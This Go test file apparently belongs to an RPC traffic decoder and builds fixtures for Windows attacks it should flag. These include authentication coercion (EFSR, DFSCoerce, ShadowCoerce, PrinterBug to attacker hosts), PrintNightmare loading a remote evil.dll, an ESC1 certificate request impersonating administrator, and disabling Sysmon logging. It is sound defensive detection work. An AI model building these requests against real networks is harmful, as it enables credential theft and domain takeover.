@@ -1,0 +1,239 @@
+package rpcops
+
+import (
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/asn1"
+	"strings"
+	"testing"
+	"unicode/utf16"
+)
+
+// Coercion (MS-EFSR, MS-DFSNM, MS-FSRVP), printing (MS-RPRN, MS-PAR) and
+// certificate requests (MS-ICPR, MS-WCCE), each in both transfer
+// syntaxes. The certificate requests inside are made by Go's crypto/x509,
+// an encoder independent of the decoder.
+
+func TestCoerceFixtures(t *testing.T) {
+	coerce := func(op, file string) want {
+		return want{op: op, target: file, technique: TechCoerce, phase: PhaseCredAccess,
+			fields: map[string]string{"coerced to": "10.0.0.66"}}
+	}
+	runFixtures(t, []fixture{
+		{name: "EfsRpcOpenFileRaw lsarpc", iface: efsrLsaUUID, opnum: 0,
+			req:  func(s *sb) { s.wstr(`\\10.0.0.66\share\file.txt`).u32(0) },
+			want: coerce("EfsRpcOpenFileRaw", `\\10.0.0.66\share\file.txt`)},
+		{name: "EfsRpcEncryptFileSrv efsrpc", iface: efsrUUID, opnum: 4,
+			req: func(s *sb) { s.wstr(`\\10.0.0.66@80/test\share\a.txt`) },
+			want: want{op: "EfsRpcEncryptFileSrv", target: `\\10.0.0.66@80/test\share\a.txt`, technique: TechCoerce, phase: PhaseCredAccess,
+				fields: map[string]string{"coerced to": "10.0.0.66@80"}}},
+		{name: "EfsRpcAddUsersToFileEx", iface: efsrLsaUUID, opnum: 15,
+			req:  func(s *sb) { s.u32(2).null().wstr(`\\10.0.0.66\x\y`).u32(0).null() },
+			want: coerce("EfsRpcAddUsersToFileEx", `\\10.0.0.66\x\y`)},
+		{name: "EfsRpcDuplicateEncryptionInfoFile", iface: efsrLsaUUID, opnum: 13,
+			req:  func(s *sb) { s.wstr(`\\10.0.0.66\s\a`).wstr(`\\10.0.0.66\s\b`).u32(0).u32(0).null().u32(0) },
+			want: coerce("EfsRpcDuplicateEncryptionInfoFile", `\\10.0.0.66\s\a`)},
+		{name: "EfsRpcOpenFileRaw local", iface: efsrLsaUUID, opnum: 0,
+			req: func(s *sb) { s.wstr(`C:\temp\x`).u32(0) },
+			want: want{op: "EfsRpcOpenFileRaw", target: `C:\temp\x`, technique: TechCoerce, phase: PhaseCredAccess,
+				fields: map[string]string{"file": `C:\temp\x`}}},
+		{name: "NetrDfsRemoveStdRoot (DFSCoerce)", iface: dfsnmUUID, opnum: 13,
+			req:  func(s *sb) { s.wstr("10.0.0.66").wstr("test").u32(1) },
+			want: coerce("NetrDfsRemoveStdRoot", "10.0.0.66")},
+		{name: "IsPathSupported (ShadowCoerce)", iface: fsrvpUUID, opnum: 8,
+			req:  func(s *sb) { s.wstr(`\\10.0.0.66\share\`) },
+			want: coerce("IsPathSupported", `\\10.0.0.66\share\`)},
+	})
+}
+
+func TestCoercedHost(t *testing.T) {
+	for in, want := range map[string]string{
+		`\\10.0.0.66\share\f`:       "10.0.0.66",
+		`\\attacker@80/x\share`:     "attacker@80",
+		`\\?\UNC\evil.corp\c$\x`:    "evil.corp",
+		`http://evil.corp/x`:        "evil.corp",
+		`C:\Windows\System32\x.dll`: "",
+		`dc01`:                      "dc01",
+		``:                          "",
+		`share\file`:                "",
+	} {
+		if got := CoercedHost(in); got != want {
+			t.Errorf("CoercedHost(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// driverContainer2 writes a DRIVER_CONTAINER at level 2 (RPC_DRIVER_INFO_2:
+// cVersion, then five unique strings deferred in order).
+func driverContainer2(s *sb, name, env, driver, data, config string) {
+	s.u32(2)
+	if s.ndr64 {
+		s.align(8)
+	}
+	s.u32(2).alignP().ptr()
+	s.alignP().u32(3).alignP()
+	for range 5 {
+		s.ptr()
+	}
+	for _, v := range []string{name, env, driver, data, config} {
+		s.wstr(v)
+	}
+}
+
+func TestSpoolssFixtures(t *testing.T) {
+	nightmare := func(s *sb) {
+		s.wstrp(`\\10.0.0.2`)
+		driverContainer2(s, "1234", "Windows x64", `C:\Windows\System32\DriverStore\FileRepository\ntprint.inf_amd64\Amd64\UNIDRV.DLL`,
+			`\\10.0.0.66\share\evil.dll`, `C:\Windows\System32\kernelbase.dll`)
+		s.u32(0x8014)
+	}
+	runFixtures(t, []fixture{
+		{name: "RpcAddPrinterDriverEx PrintNightmare", iface: spoolssUUID, opnum: 89, req: nightmare,
+			want: want{op: "RpcAddPrinterDriverEx", target: "1234", command: `\\10.0.0.66\share\evil.dll`, technique: "T1210", phase: PhaseExecution,
+				fields: map[string]string{"copy flags": "APD_COPY_ALL_FILES|APD_COPY_FROM_DIRECTORY|APD_INSTALL_WARNED_DRIVER",
+					"config file": `C:\Windows\System32\kernelbase.dll`, "environment": "Windows x64",
+					"printnightmare": "driver file on a remote share (CVE-2021-1675 / CVE-2021-34527 pattern)"}}},
+		{name: "RpcAsyncAddPrinterDriver (MS-PAR)", iface: parUUID, opnum: 39, req: nightmare,
+			want: want{op: "RpcAsyncAddPrinterDriver", target: "1234", command: `\\10.0.0.66\share\evil.dll`, technique: "T1210", phase: PhaseExecution,
+				fields: map[string]string{"printnightmare": "driver file on a remote share (CVE-2021-1675 / CVE-2021-34527 pattern)"}}},
+		{name: "RpcEnumPrinterDrivers", iface: spoolssUUID, opnum: 10,
+			req:  func(s *sb) { s.wstrp(`\\10.0.0.2`).wstrp("Windows x64").u32(2).null().u32(0) },
+			want: want{op: "RpcEnumPrinterDrivers", target: `\\10.0.0.2`, technique: "T1082", phase: PhaseRecon, fields: map[string]string{"level": "2"}}},
+	})
+}
+
+// TestPrinterBug: RpcOpenPrinter names the printer on the handle, and
+// RpcRemoteFindFirstPrinterChangeNotificationEx on it names the host the
+// spooler is made to call back.
+func TestPrinterBug(t *testing.T) {
+	for _, ndr64 := range []bool{false, true} {
+		var sess Session
+		open := newSB(ndr64)
+		open.wstrp(`\\DC01`).null().u32(0).null().u32(0x20000)
+		resp := newSB(ndr64)
+		resp.handle(h(7)).status(0)
+		d := sess.Decode(Call{Interface: spoolssUUID, Opnum: 1, Request: open.bytes(), Response: resp.bytes(), NDR64: ndr64})
+		check(t, d, want{op: "RpcOpenPrinter", target: `\\DC01`, fields: map[string]string{"printer": `\\DC01`}})
+		n := newSB(ndr64)
+		n.handle(h(7)).u32(0x100).u32(0).wstrp(`\\attacker.corp`).u32(0).null()
+		d = sess.Decode(Call{Interface: spoolssUUID, Opnum: 65, Request: n.bytes(), NDR64: ndr64})
+		check(t, d, want{op: "RpcRemoteFindFirstPrinterChangeNotificationEx", target: `\\DC01 -> \\attacker.corp`,
+			technique: TechCoerce, phase: PhaseCredAccess,
+			fields: map[string]string{"coerced to": "attacker.corp", "printer": `\\DC01`, "callback": `\\attacker.corp`}})
+	}
+}
+
+// csr makes a PKCS #10 request with crypto/x509: subject CN, a SAN with a
+// UPN (otherName) and a DNS name, and the template name extension.
+func csr(t *testing.T, cn, upn, template string) []byte {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	utf8, _ := asn1.MarshalWithParams(upn, "utf8")
+	other, _ := asn1.Marshal(struct {
+		ID    asn1.ObjectIdentifier
+		Value asn1.RawValue
+	}{asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 311, 20, 2, 3}, asn1.RawValue{Class: 2, Tag: 0, IsCompound: true, Bytes: utf8}})
+	other[0] = 0xa0 // [0] IMPLICIT otherName
+	dns, _ := asn1.Marshal(asn1.RawValue{Class: 2, Tag: 2, Bytes: []byte("dc01.corp.local")})
+	san, _ := asn1.Marshal(asn1.RawValue{Class: 0, Tag: 16, IsCompound: true, Bytes: append(other, dns...)})
+	u := utf16.Encode([]rune(template))
+	bmp := make([]byte, 0, 2*len(u))
+	for _, c := range u {
+		bmp = append(bmp, byte(c>>8), byte(c))
+	}
+	tmpl, _ := asn1.Marshal(asn1.RawValue{Tag: 30, Bytes: bmp})
+	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{
+		Subject: pkix.Name{CommonName: cn},
+		ExtraExtensions: []pkix.Extension{
+			{Id: asn1.ObjectIdentifier{2, 5, 29, 17}, Value: san},
+			{Id: asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 311, 20, 2}, Value: tmpl},
+		},
+	}, key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return der
+}
+
+func utf16le(s string) []byte {
+	var b []byte
+	for _, c := range utf16.Encode([]rune(s)) {
+		b = append(b, byte(c), byte(c>>8))
+	}
+	return b
+}
+
+func TestCertRequestFixtures(t *testing.T) {
+	req := csr(t, "alice", "administrator@corp.local", "ESC1Template")
+	attrs := utf16le("CertificateTemplate:ESC1Template\nSAN:upn=administrator@corp.local\n\x00")
+	blob := func(s *sb, b []byte) {
+		s.u32(uint32(len(b))).ptr()
+	}
+	body := func(s *sb, b []byte) { s.size(len(b)).raw(b) }
+	icpr := func(s *sb) {
+		s.u32(0).wstrp("corp-CA").u32(0)
+		s.alignP()
+		blob(s, attrs)
+		body(s, attrs)
+		s.alignP()
+		blob(s, req)
+		body(s, req)
+	}
+	resp := func(s *sb) { s.u32(17).u32(3).u32(0).null().u32(0).null().u32(0).null().status(0) }
+	w := want{op: "CertServerRequest", target: "corp-CA: ESC1Template", command: "SAN upn:administrator@corp.local, dns:dc01.corp.local",
+		technique: TechCert, phase: PhaseCredAccess,
+		fields: map[string]string{"template": "ESC1Template", "subject": "CN=alice", "disposition": "issued", "request id": "17"}}
+	runFixtures(t, []fixture{
+		{name: "CertServerRequest ESC1", iface: icprUUID, opnum: 0, req: icpr, resp: resp, want: w},
+	})
+	// The same request through ICertRequestD::Request (DCOM).
+	w.op = "Request"
+	runFixtures(t, []fixture{
+		{name: "ICertRequestD Request", iface: certReqUUID, opnum: 3,
+			req:  func(s *sb) { s.orpcThis(); icpr(s) },
+			resp: func(s *sb) { s.orpcThat(); resp(s) }, want: w},
+	})
+}
+
+func TestParseCertRequest(t *testing.T) {
+	c := ParseCertRequest(csr(t, "bob", "da@corp.local", "User"))
+	if c.Subject != "CN=bob" || c.Template != "User" || strings.Join(c.SANs, ",") != "upn:da@corp.local,dns:dc01.corp.local" {
+		t.Fatalf("%+v", c)
+	}
+	// Cut anywhere, it never panics and never invents names.
+	full := csr(t, "bob", "da@corp.local", "User")
+	for i := range full {
+		c := ParseCertRequest(full[:i])
+		for _, s := range c.SANs {
+			if s != "upn:da@corp.local" && s != "dns:dc01.corp.local" {
+				t.Fatalf("cut at %d: SAN %q", i, s)
+			}
+		}
+	}
+}
+
+func FuzzParseCertRequest(f *testing.F) {
+	f.Add([]byte{0x30, 0x03, 0x02, 0x01, 0x00})
+	f.Fuzz(func(t *testing.T, b []byte) { ParseCertRequest(b) })
+}
+
+func TestEven6Fixtures(t *testing.T) {
+	runFixtures(t, []fixture{
+		{name: "EvtRpcRegisterRemoteSubscription", iface: even6UUID, opnum: 0,
+			req: func(s *sb) { s.wstrp("Security").wstr("*[System[EventID=4624]]").null().u32(1) },
+			want: want{op: "EvtRpcRegisterRemoteSubscription", target: "Security", technique: "T1654", phase: PhaseRecon,
+				fields: map[string]string{"query": "*[System[EventID=4624]]", "flags": "0x00000001"}}},
+		{name: "EvtRpcOpenLogHandle", iface: even6UUID, opnum: 17,
+			req:  func(s *sb) { s.wstr("Microsoft-Windows-Sysmon/Operational").u32(1) },
+			want: want{op: "EvtRpcOpenLogHandle", target: "Microsoft-Windows-Sysmon/Operational", technique: "T1654", phase: PhaseRecon}},
+		{name: "EvtRpcRetractConfig", iface: even6UUID, opnum: 16,
+			req:  func(s *sb) { s.wstr("Microsoft-Windows-Sysmon").u32(0) },
+			want: want{op: "EvtRpcRetractConfig", target: "Microsoft-Windows-Sysmon", technique: "T1562.002", phase: PhaseEvasion}},
+	})
+}
